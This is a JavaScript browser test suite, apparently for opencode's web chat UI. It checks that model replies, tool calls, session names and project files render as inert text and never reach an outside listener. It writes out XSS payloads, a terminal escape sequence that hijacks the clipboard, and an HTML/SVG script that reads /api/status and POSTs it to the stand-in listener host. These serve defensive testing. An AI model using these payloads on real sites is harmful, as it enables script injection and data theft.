// What a model says, or a project holds, is never more than words: real opencode, real browser, a listener elsewhere.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, request } from "node:http";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, afterEach, before, test } from "node:test";
import { Agent, Model, until } from "./lib/agent.js";
import { attacks } from "./lib/attacks.js";
import { enter, launch, open } from "./lib/browser.js";
import { begin, finished } from "./lib/talk.js";
import { agentOf, server } from "./lib/theirs.js";

/** How long the page's main thread may be at work for one message. */
const work_ms_max = 200;
const bulk_bytes = 1_000_000;
/** Attacks in one message: enough messages that few of them are behind an element that another left open. */
const at_once = 4;

/** Counts who connects, under a name that is not the page's. */
class Sink {
  /** @type {string[]} */
  asked = [];
  connections = 0;

  constructor() {
    this.server = createServer((asked, answer) => {
      this.asked.push(`${asked.method} ${asked.url} ${asked.headers.referer ?? "from nowhere"}`);
      answer.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/html" }).end("<title>elsewhere</title>");
    });
    this.server.on("connection", () => (this.connections += 1));
  }

  static async listen() {
    const sink = new Sink();
    sink.server.listen(0, "127.0.0.1");
    await once(sink.server, "listening");
    return sink;
  }

  /** Its name and port, as a browser knows it. */
  get host() {
    const { port } = /** @type {import("node:net").AddressInfo} */ (this.server.address());
    return `elsewhere.localhost:${port}`;
  }

  stop() {
    this.server.closeAllConnections();
    this.server.close();
  }
}

/** @type {Model} */
let model;
/** @type {Agent} */
let agent;
/** @type {import("playwright-core").Browser} */
let browser;
/** @type {Sink} */
let sink;

before(async () => {
  model = await Model.start();
  sink = await Sink.listen();
  agent = await Agent.start({ model });
  browser = await launch();
  await agent.healthy();
});
after(async () => {
  await browser?.close();
  await agent?.stop();
  sink?.stop();
  await model?.stop();
});
afterEach(async () => {
  for (const context of browser.contexts()) await context.close();
});

/** @typedef {import("playwright-core").Page} Page */

/** A page of the owner, and what it did beside showing words. @param {Agent} [of] */
async function watched(of = agent) {
  const { page, context, errors } = await open(browser, { base: of.base });
  /** @type {string[]} */
  const done = [];
  page.on("dialog", (dialog) => {
    done.push(`a dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  page.on("request", (asked) => {
    if (!asked.url().startsWith(of.base) && !/^(data|blob):/.test(asked.url())) done.push(`a request to ${asked.url()}`);
  });
  page.on("framenavigated", (frame) => {
    // What the browser shows in the place of a frame that it was told not to fill.
    const is_refused = frame !== page.mainFrame() && frame.url() === "chrome-error://chromewebdata/";
    if (!frame.url().startsWith(of.base) && !is_refused) done.push(`a way to ${frame.url()}`);
  });
  await enter(page, of, "chat");
  page.on("popup", (other) => done.push(`a page at ${other.url()}`));
  return { page, context, errors, done };
}

/** Says words in a session without typing them, and waits for the answer. @param {Page} page @param {string} words */
const ask = (page, words) =>
  page.evaluate(
    async ([id, text]) => {
      const answer = await fetch(`/api/opencode/session/${id}/message`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ parts: [{ type: "text", text }] }),
      });
      if (!answer.ok) throw new Error(`status ${answer.status}`);
      return (await answer.json()).parts.filter((/** @type {any} */ part) => part.type === "text").map((/** @type {any} */ part) => part.text).join("");
    },
    [page.url().split("/").at(-1), words],
  );

/** Everything on the page that is more than words. @param {Page} page */
const active = (page) =>
  page.evaluate(() => {
    /** @type {string[]} */
    const found = [];
    const say = (/** @type {Element} */ element, /** @type {string} */ why) => found.push(`${why}: ${element.outerHTML.slice(0, 200)}`);
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || /^(srcdoc|style|ping|formaction|xlink:href|background|poster|srcset)$/i.test(name)) say(element, name);
        if (/^(href|src|action|data)$/i.test(name) && !/^(https?:|mailto:|\/|\?|#|$)/.test(value)) say(element, name);
      }
    }
    for (const script of document.scripts) {
      if (!script.src.startsWith(`${location.origin}/assets/`) || script.textContent) say(script, "script");
    }
    const never = "iframe, frame, object, embed, applet, base, style, portal, audio, video, source, template, slot, dialog, meta[http-equiv]";
    for (const element of document.querySelectorAll(never)) say(element, "element");
    const inWords = "img, svg, math, form, button, textarea, select, link, meta, input:not([type=checkbox][disabled]), [tabindex], [contenteditable], [autofocus], [name]";
    for (const prose of document.querySelectorAll(".turn .prose, .prompt-text")) {
      for (const element of prose.querySelectorAll(inWords)) {
        // Code has a button to copy it, and can be scrolled by keys.
        if (!element.closest("figure.code > figcaption") && !element.matches("figure.code > pre[tabindex='0']")) say(element, "among words");
      }
      for (const link of prose.querySelectorAll("a")) {
        const is_apart = link.rel === "noopener noreferrer" && link.target === "_blank" && /^(https?|mailto):/.test(link.protocol);
        if (!is_apart || !link.dataset["host"]) say(link, "link");
      }
    }
    const ids = [...document.querySelectorAll("[id]")].map(({ id }) => id);
    for (const id of ids.filter((id, at) => ids.indexOf(id) !== at)) found.push(`two things are called ${id}`);
    return found;
  });

/** Milliseconds the page's main thread has been at work since it began. @param {Page} page */
async function work(page) {
  const session = await page.context().newCDPSession(page);
  await session.send("Performance.enable", { timeDomain: "threadTicks" });
  return async () => {
    const { metrics } = await session.send("Performance.getMetrics");
    return 1000 * (metrics.find(({ name }) => name === "TaskDuration")?.value ?? 0);
  };
}

test("no words of a model become anything else, as they come and as they are loaded", async (t) => {
  const { page, errors, done } = await watched();
  await begin(page, "Begin [[text:ready]]");
  await finished(page);
  const worked = await work(page);
  /** @type {[number, string][]} */
  const works = [];

  for (let at = 0; at < attacks.length; at += at_once) {
    const words = attacks.slice(at, at + at_once).join("\n\n").replaceAll("SINK", sink.host);
    const before = await worked();
    const said = await ask(page, `Say [[text:${words}]]`);
    assert.equal(said.trim(), words.trim());
    await finished(page, works.length + 2);
    works.push([(await worked()) - before, words]);
  }
  assert.deepEqual(await active(page), []);
  works.sort(([one], [other]) => other - one);
  t.diagnostic(`at most ${works[0]?.[0].toFixed(0)} ms of work for a message`);
  assert.ok(Number(works[0]?.[0]) <= work_ms_max, `${works[0]}`);

  // What the server has written is read by the browser's own parser.
  await page.reload();
  await finished(page, works.length + 1);
  assert.deepEqual(await active(page), []);
  const shown = await page.locator("#turns").innerText();
  for (const words of ["<img/src='x'/onerror='alert(1)'>", "javascript:alert(1)", `(http://${sink.host}/x.png)`]) {
    assert.ok(shown.includes(words), `not shown: ${words}`);
  }
  assert.deepEqual([done, errors, sink.asked, sink.connections], [[], [], [], 0]);
});

test("a megabyte of brackets is a megabyte of brackets, at once", async (t) => {
  const { page, errors, done } = await watched();
  const worked = await work(page);
  // The machine may be busy with something else: one quiet try is enough to tell how much work it is.
  let least = Infinity;
  for (let tries = 0; tries < 3 && least > work_ms_max; tries += 1) {
    await begin(page, "Begin [[text:ready]]");
    await finished(page);
    const before = await worked();
    const said = await ask(page, `Say [[bulk:${bulk_bytes}:[[[[]]`);
    assert.equal(said.length, bulk_bytes);
    await finished(page, 2);
    least = Math.min(least, (await worked()) - before);
  }

  // On a slow machine as many words take their time on any page.
  const bare = await page.context().newPage();
  const alone = await work(bare);
  await bare.setContent("<p style='overflow-wrap: anywhere'>");
  const before = await alone();
  await bare.evaluate((bytes) => document.querySelector("p")?.append("[".repeat(bytes)), bulk_bytes);
  await bare.evaluate(() => new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted))));
  const beside = (await alone()) - before;
  t.diagnostic(`${least.toFixed(0)} ms of work, ${beside.toFixed(0)} ms on a bare page`);
  assert.ok(least <= Math.max(work_ms_max, 2 * beside), `${least} ms, ${beside} ms on a bare page`);
  await bare.close();
  assert.deepEqual(await active(page), []);
  assert.deepEqual([done, errors], [[], []]);
});

test("nobody elsewhere is asked for anything until a person follows a link, and where it leads is shown", async () => {
  const { page, context, errors, done } = await watched();
  const place = `http://${sink.host}`;
  await begin(
    page,
    `Say [[text:Look: ![a picture](${place}/a.png) [the words](${place}/b?c=d#e) ${place}/f <link rel=stylesheet href=${place}/g.css> <video src=${place}/h.mp4 autoplay>]]`,
  );
  await finished(page);
  const prose = page.locator(".turn .prose");

  const shown = await prose.innerText();
  for (const part of [`${place}/a.png`, `${place}/f`, `${place}/g.css`, `${place}/h.mp4`]) assert.ok(shown.includes(part), shown);
  const link = prose.getByRole("link", { name: "the words" });
  assert.equal(await link.getAttribute("href"), `${place}/b?c=d#e`);
  const beside = await link.evaluate((element) => getComputedStyle(element, "::after").content);
  assert.ok(beside.includes("attr(data-host)") || beside.includes("elsewhere.localhost"), beside);
  await link.hover();
  await prose.getByRole("link", { name: "a picture" }).hover();
  await page.reload();
  await prose.waitFor();
  assert.deepEqual([done, errors, sink.asked, sink.connections], [[], [], [], 0]);

  const [other] = await Promise.all([context.waitForEvent("page"), link.click()]);
  await until("the listener to be asked", () => sink.asked.length > 0);
  // Whoever is led there is not told from where, and has no hold on the page.
  assert.equal(sink.asked[0], "GET /b?c=d from nowhere");
  await other.waitForLoadState();
  assert.equal(await other.evaluate(() => window.opener), null);
  assert.equal(new URL(page.url()).origin, new URL(agent.base).origin);
});

test("names, questions, changes, output and log lines are words too, and a terminal's commands are not done", async () => {
  const { page, context, errors, done } = await watched();
  const evil = '"><img src=x onerror=alert(1)>';
  await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: agent.base });
  await page.evaluate(() => navigator.clipboard.writeText("mine"));
  const file = join(agent.project, `${evil}.txt`);
  writeFileSync(file, `${evil}\nold\n`);
  // Sets the clipboard, links, clears the screen, rings, and turns letters around.
  const output = `printf '\\033]52;c;dGhlaXJz\\007\\033]8;;javascript:alert(1)\\033\\134click\\033]8;;\\033\\134\\033[2J\\a\\342\\200\\256${evil}'`;
  const tool = (/** @type {string} */ name, /** @type {object} */ input) => `[[tool:${name} ${JSON.stringify(input)}]]`;
  const option = { label: evil, description: evil };
  await begin(page, "Look [[text:ready]]");
  await finished(page);
  await page.getByRole("button", { name: "Session menu" }).click();
  await page.getByLabel("Title").fill(evil);
  await page.getByRole("button", { name: "Rename" }).click();
  await page.locator("#session-head h1", { hasText: evil }).waitFor();

  await page.locator("#words").fill(
    [
      tool("question", { questions: [{ question: evil, header: evil, options: [option, option] }] }),
      tool("todowrite", { todos: [{ content: evil, status: "pending", priority: "high" }] }),
      tool("read", { filePath: file }),
      tool("edit", { filePath: file, oldString: "old", newString: `new ${evil}` }),
      tool("bash", { command: output, description: evil }),
      tool(evil, { filePath: evil }),
    ].join(" "),
  );
  await page.keyboard.press("Enter");
  await page.locator(".ask .option").first().waitFor();
  assert.deepEqual(await active(page), []);
  await page.locator(".ask .option").first().click();
  await page.getByRole("button", { name: "Answer" }).click();
  for (const seen of [".ask .diff ins", ".ask >> text=printf"]) {
    await page.locator(seen).first().waitFor();
    assert.deepEqual(await active(page), []);
    await page.getByRole("button", { name: "Allow once" }).click();
    await page.locator(seen).first().waitFor({ state: "detached" });
  }
  await finished(page, 2);
  for (const summary of await page.locator(".tool > summary").all()) await summary.click();
  const shown = await page.locator(".tool .output", { hasText: "click" }).last().innerText();
  assert.ok(shown.includes("click") && shown.endsWith(evil), JSON.stringify(shown));
  assert.doesNotMatch(shown, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);

  // A name that is in the log, and in the list of what may enter.
  await agent.nexus("devices", "token", evil);
  const path = new URL(page.url()).pathname;
  for (const place of [path, "/", "/devices", "/logs"]) {
    await page.goto(place);
    await page.getByRole("main").getByText(evil).first().waitFor();
    assert.deepEqual([place, await active(page)], [place, []]);
  }
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "mine");
  assert.deepEqual([done, errors], [[], []]);
});

test("a page or picture of the project is a file to save, and nothing in it runs", async () => {
  const script = `document.title = "ran"; parent.ran = top.ran = true; fetch("/api/status").then((a) => a.text()).then((text) => fetch("http://${sink.host}/told", { method: "POST", body: text }))`;
  const pages = {
    "evil.html": `<!doctype html><title>evil</title><body><script>${script}</script><img src=x onerror='${script}'>`,
    "evil.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>`,
  };
  const kinds = { "evil.html": "text/html", "evil.svg": "image/svg+xml" };
  const before = sink.asked.length;
  const theirs = await server(model);
  // The present server wraps files in JSON. This one gives them as they are, as another may.
  const bare = createServer((asked, answer) => {
    const name = new URL(asked.url ?? "", "http://x").searchParams.get("path") ?? "";
    if (asked.url?.startsWith("/file/content") && name in pages) {
      const known = /** @type {keyof typeof pages} */ (name);
      return answer.writeHead(200, { "content-type": kinds[known], "content-disposition": "inline" }).end(pages[known]);
    }
    const { method, headers } = asked;
    const passed = request({ port: theirs.port, host: "127.0.0.1", method, path: asked.url, headers }, (from) => {
      answer.writeHead(from.statusCode ?? 502, from.headers);
      from.pipe(answer);
    });
    passed.on("error", () => answer.destroy());
    answer.on("close", () => passed.destroy());
    return asked.pipe(passed);
  });
  bare.listen(0, "127.0.0.1");
  await once(bare, "listening");
  const { port } = /** @type {import("node:net").AddressInfo} */ (bare.address());
  const outer = await agentOf(port);
  try {
    for (const [name, content] of Object.entries(pages)) {
      writeFileSync(join(agent.project, name), content);
      const wrapped = await watched();
      const raw = await watched(outer);
      const path = `/api/opencode/file/content?path=${name}&directory=`;

      // Followed like a link, opened like an address, and put into the page.
      const saved = raw.page.waitForEvent("download");
      await raw.page.evaluate((to) => location.assign(to), path + encodeURIComponent(theirs.project));
      assert.equal(await (await saved).failure(), null);
      await raw.page.goto(path + encodeURIComponent(theirs.project)).then(
        (answer) => assert.fail(`a page: ${answer?.status()}`),
        (error) => assert.match(String(error), /Download is starting|ERR_ABORTED/),
      );
      const shown = await wrapped.page.goto(path + encodeURIComponent(agent.project));
      assert.match(shown?.headers()["content-type"] ?? "", /^application\/json/);
      assert.match(await wrapped.page.locator("body").innerText(), /<script>|PHN2Zy/);
      for (const { page } of [raw, wrapped]) {
        await page.goto("/");
        const end = await page.evaluate(async (to) => {
          for (const kind of ["iframe", "img"]) {
            const element = document.createElement(kind);
            element.setAttribute("src", to);
            const over = new Promise((resolve) => ["load", "error"].forEach((end) => element.addEventListener(end, resolve)));
            document.body.append(element);
            await over;
          }
          return [document.title === "ran", "ran" in window];
        }, path + encodeURIComponent(page === raw.page ? theirs.project : agent.project));
        assert.deepEqual(end, [false, false]);
      }
      assert.deepEqual([raw.done, wrapped.done, sink.asked.slice(before)], [[], [], []]);
    }
  } finally {
    await outer.stop();
    bare.closeAllConnections();
    bare.close();
    await theirs.end();
  }
});
